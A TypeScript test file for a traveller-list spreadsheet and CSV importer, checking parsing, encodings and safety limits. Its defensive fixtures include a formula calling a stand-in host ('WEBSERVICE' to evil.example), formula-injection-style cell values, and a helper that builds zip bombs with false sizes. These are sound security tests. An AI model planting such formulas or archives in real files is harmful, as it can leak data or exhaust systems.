import { type CellValue, writeXlsx, type WriteSheet } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import { fieldsOf, recognised } from '#common/policies/import/columns.ts'
import { mostBytes, mostUnpacked } from '#common/kit/sheet/file.ts'
import { mostRows } from '#common/policies/import/cells.ts'
import { type Draft, edit, newDraft, withColumn, withHeader, without } from './draft.ts'
import { readTable } from './read.ts'
import { template } from './template.ts'

const header = ['Nombre', 'Primer apellido', 'Segundo apellido', 'Fecha de nacimiento', 'Número de documento']
const ana = ['Ana', 'García', 'López', '15/01/1990', '12345678Z']

const workbook = (rows: CellValue[][], changes: Partial<WriteSheet> = {}, others: WriteSheet[] = []) =>
  writeXlsx({ sheets: [...others, { name: 'Viajeros', rows, ...changes }] })

describe('a workbook', () => {
  test('a workbook gives dates, numbers and signs as text, without empty rows', async () => {
    const born = { numFmt: 'dd/mm/yyyy' }
    const bytes = await workbook(
      [header, ['=Ana', '  García ', null, new Date('1990-01-15'), 12345678], [], ['Luis', '+Pérez', '@Ruiz', 32888, true]],
      { columns: [{}, {}, {}, { style: born }, {}] },
    )
    expect(await readTable(bytes)).toEqual([
      header,
      ['=Ana', 'García', '', '1990-01-15', '12345678'],
      ['Luis', '+Pérez', '@Ruiz', '1990-01-15', ''],
    ])
  })

  test('a workbook gives the stored result of a formula, and never evaluates it', async () => {
    const bytes = await workbook([header, ['', '', '', '', '']], {
      cells: new Map([
        ['1,0', { value: 'Ana', formula: 'UPPER("x")', formulaResult: 'Ana' }],
        ['1,1', { formula: 'WEBSERVICE("https://evil.example")' }],
        ['1,4', { value: 'x', type: 'string' }],
      ]),
    })
    expect(await readTable(bytes)).toEqual([header, ['Ana', '', '', '', 'x']])
  })

  test('a workbook gives its first visible sheet', async () => {
    const hidden: WriteSheet = { name: 'Notas', hidden: true, rows: [['nothing']] }
    const visible: WriteSheet = { name: 'Otra', rows: [['other']] }
    expect(
      await readTable(await writeXlsx({ sheets: [hidden, { name: 'Viajeros', rows: [header, ana] }, visible], activeSheet: 1 })),
    ).toEqual([header, ana])
  })

  test('a workbook may have at most 200 travellers', async () => {
    const rows = (many: number) => [header, ...Array.from({ length: many }, () => ana)]
    expect(await readTable(await workbook(rows(mostRows)))).toHaveLength(mostRows + 1)
    expect(await readTable(await workbook(rows(mostRows + 1)))).toBe('too_many')
  })

  test('a cell at the far corner of the sheet is ignored', async () => {
    const bytes = await workbook([header, ana], { cells: new Map([['1048575,16383', { value: 'x', type: 'string' }]]) })
    expect(await readTable(bytes)).toEqual([header, ana])
  })

  test('an empty, damaged, locked, too large or other file has its own problem', async () => {
    expect(await readTable(await workbook([]))).toBe('empty')
    expect(await readTable(new Uint8Array())).toBe('empty')
    const whole = await workbook([header, ana])
    expect(await readTable(whole.slice(0, whole.length - 30))).toBe('broken')
    expect(await readTable(await zipped([{ name: 'a.txt', content: new Uint8Array(10) }]))).toBe('broken')
    expect(await readTable(new TextEncoder().encode('%PDF-1.7 ...'))).toBe('other_kind')
    expect(await readTable(await writeXlsx({ sheets: [{ name: 'a', rows: [ana] }], encryption: { password: 'x', spinCount: 1 } }))).toBe(
      'locked',
    )
    expect(await readTable(new Uint8Array(mostBytes + 1))).toBe('too_big')
  })
})

describe('a zip bomb', () => {
  const zeros = new Uint8Array(mostUnpacked / 2 + 1)

  test('a zip bomb is refused by its stated sizes, before it is unpacked', async () => {
    const name = 'xl/worksheets/sheet1.xml'
    expect(
      await readTable(
        await zipped([
          { name, content: zeros },
          { name: 'b', content: zeros },
        ]),
      ),
    ).toBe('unpacked')
    expect(await readTable(await zipped(Array.from({ length: 501 }, (_, at) => ({ name: `${at}`, content: new Uint8Array(1) }))))).toBe(
      'unpacked',
    )
  })

  test('a zip bomb with understated sizes is stopped at the stated size', async () => {
    expect(await readTable(await zipped([{ name: '[Content_Types].xml', content: zeros, statedSize: 1000 }]))).toBe('unpacked')
    expect(await readTable(await zipped([{ name: '[Content_Types].xml', content: zeros, statedSize: 0 }]))).toBe('broken')
  })
})

describe('a text', () => {
  const text = `${header.join(';')}\r\n${ana.join(';')}\r\n`
  const table = [header, ana]
  const codes = (written: string) => Array.from(written, letter => letter.codePointAt(0) ?? 0)
  const latin = Uint8Array.from(codes(text))
  const wide = Uint8Array.from([0xff, 0xfe, ...codes(text.replaceAll(';', '\t')).flatMap(code => [code & 0xff, code >> 8])])

  test.each([
    ['UTF-8', new TextEncoder().encode(text)],
    ['UTF-8 with its mark', new TextEncoder().encode(`\ufeff${text}`)],
    ['Latin-1, as Excel writes it', latin],
    ['UTF-16, as Excel writes it', wide],
    ['copied cells', text.replaceAll(';', '\t')],
    ['commas', text.replaceAll(';', ',')],
  ])('is read: %s', async (_, source) => expect(await readTable(source)).toEqual(table))
})

test('the template is recognised by its column names, and has no travellers', async () => {
  const names: Record<string, string> = {
    'people.import.file_name': 'Plantilla de viajeros',
    'people.import.sheet': 'Viajeros',
    'people.import.date_format': 'Fecha de nacimiento (DD/MM/AAAA)',
    'funnel.name': 'Nombre',
    'funnel.middleName': 'Primer apellido',
    'funnel.surname': 'Apellido',
    'funnel.lastName': 'Segundo apellido',
    'funnel.birthDate': 'Fecha de nacimiento',
    'funnel.documentNumber': 'N.º de DNI, NIE o pasaporte',
    'funnel.documentKind': 'Tipo de documento',
  }
  for (const hasSecondLastName of [true, false]) {
    // Safe: the template only looks up messages by id.
    const { name, content } = await template(((id: string) => names[id] ?? id) as Parameters<typeof template>[0], hasSecondLastName)
    expect(name).toBe('Plantilla de viajeros.xlsx')
    const table = await readTable(new Uint8Array(await content.arrayBuffer()))
    if (typeof table === 'string') throw new Error(table)
    expect(table).toHaveLength(1)
    const { columns, byName } = recognised(table, hasSecondLastName)
    expect(byName).toBe(true)
    expect(fieldsOf(hasSecondLastName).map(field => columns[field])).toEqual(fieldsOf(hasSecondLastName).map((_, index) => index))
  }
})

describe('an imported list', () => {
  const table = [['a', 'b', 'c', 'd', 'e'], ana, ['Luis', 'Pérez', 'Ruiz', '32888', '11111111H']]

  test('a list drops its first row, unless that is a traveller', { tags: 'S4.7' }, () => {
    const draft = newDraft(table, true)
    expect(draft.items.map(({ row }) => row.name)).toEqual(['Ana', 'Luis'])
    expect(withHeader(draft, false).items.map(({ row }) => row.name)).toEqual(['a', 'Ana', 'Luis'])
    expect(withHeader(withHeader(draft, false), true).items).toEqual(draft.items)
  })

  test('a list keeps corrections when another field gets another column', () => {
    const corrected = edit(newDraft(table, true), 1, 'name', ' Anna ')
    const draft = withColumn(corrected, 'lastName', -1)
    expect(draft.items.map(({ row }) => [row.name, row.lastName])).toEqual([
      ['Anna', ''],
      ['Luis', ''],
    ])
    expect(withColumn(draft, 'name', 0).items[0]?.row.name).toBe('Ana')
    expect(edit(draft, 2, 'birthDate', '1.2.1990').items[1]?.row.birthDate).toBe('01/02/1990')
    expect(without(draft, 1).items.map(({ row }) => row.name)).toEqual(['Luis'])
  })

  test('surnames of one column are split, and joined again after another choice', () => {
    const draft = newDraft(
      [
        ['Nombre', 'Apellidos'],
        ['Ana', 'García López'],
        ['Luis', 'Pérez Ruiz'],
      ],
      true,
    )
    const surnames = (of: Draft) => of.items.map(({ row }) => `${row.middleName} | ${row.lastName}`)
    expect(surnames(draft)).toEqual(['García | López', 'Pérez | Ruiz'])
    const corrected = edit(draft, 2, 'middleName', 'Peréz')
    // A corrected name stays as it was typed.
    expect(surnames(withColumn(corrected, 'lastName', -1))).toEqual(['García López | ', 'Peréz | '])
    expect(surnames(withColumn(withColumn(corrected, 'lastName', -1), 'lastName', 1))).toEqual(['García | López', 'Peréz | Ruiz'])
  })

  test('whole names are split at their comma, and others left for the rules to refuse', () => {
    const { items } = newDraft(
      [
        ['Pasajero', 'F. Nac'],
        ['García López, Ana', '15/01/1990'],
        ['Aroa Pérez Ruiz', ''],
      ],
      true,
    )
    expect(items.map(({ row }) => [row.name, row.middleName, row.lastName])).toEqual([
      ['Ana', 'García', 'López'],
      ['Aroa Pérez Ruiz', '', ''],
    ])
  })
})

describe('a sheet as agencies keep them', () => {
  const people = (draft: Draft) => draft.items.map(({ row }) => [row.name, row.middleName, row.lastName, row.birthDate, row.docNumber])
  const draftOf = async (text: string) => {
    const table = await readTable(text)
    if (typeof table === 'string') throw new Error(table)
    return newDraft(table, true)
  }
  const rows = [
    ['Ana', 'García', 'López', '15/01/1990', '12345678Z'],
    ['Luis', 'Pérez', 'Ruiz', '03/02/1988', '11111111H'],
  ]
  const listed = 'Ana;García;López;15/01/1990;12345678-Z\nLuis;Pérez;Ruiz;03/02/1988;11.111.111-H'

  test.each([
    ['a title', `Grupo Roma, marzo\nSalida;12/03/2027\n${header.join(';')}\n${listed}`],
    ['a total', `${header.join(';')}\n${listed}\nTotal: 2`],
    ['a total in its own column', `${header.join(';')}\n${listed}\nTOTAL PAX;;;;2`],
    ['copied cells with a title', `Listado de pasajeros\n${header.join('\t')}\n${listed.replaceAll(';', '\t')}`],
  ])('returns its travellers despite %s', async (_, text) => expect(people(await draftOf(text))).toEqual(rows))

  test('a traveller called Total is kept', async () => {
    const draft = await draftOf('Apellidos;Nombre;F. Nac\nTotal;Marie;\nTotal;;03/02/1988')
    expect(draft.items).toHaveLength(2)
  })

  test.each(['Pasajero', 'Passenger', 'Passager', 'Passeggero', 'Passageiro'])('whole names under %s are split', async name => {
    expect(people(await draftOf(`${name};F. Nac\nAna García López;15/01/1990`))).toEqual([['Ana', 'García', 'López', '15/01/1990', '']])
  })
})

/** Returns a zip archive that may state false sizes. */
async function zipped(files: { name: string; content: Uint8Array<ArrayBuffer>; statedSize?: number }[]): Promise<Uint8Array> {
  const parts: Uint8Array<ArrayBuffer>[] = []
  const table: Uint8Array<ArrayBuffer>[] = []
  let at = 0
  for (const { name, content, statedSize = content.length } of files) {
    const packed = new Uint8Array(
      await new Response(new Blob([content]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer(),
    )
    const title = new TextEncoder().encode(name)
    const common = [20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0, ...four(packed.length), ...four(statedSize), ...two(title.length), 0, 0]
    const local = Uint8Array.from([0x50, 0x4b, 3, 4, ...common])
    table.push(Uint8Array.from([0x50, 0x4b, 1, 2, 20, 0, ...common, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, ...four(at)]), title)
    parts.push(local, title, packed)
    at += local.length + title.length + packed.length
  }
  const size = table.reduce((sum, { length }) => sum + length, 0)
  const end = Uint8Array.from([0x50, 0x4b, 5, 6, 0, 0, 0, 0, ...two(files.length), ...two(files.length), ...four(size), ...four(at), 0, 0])
  return new Uint8Array(await new Blob([...parts, ...table, end]).arrayBuffer())
}

const two = (value: number): number[] => [value & 0xff, value >> 8]
const four = (value: number): number[] => [value & 0xff, (value >> 8) & 0xff, (value >> 16) & 0xff, value >>> 24]
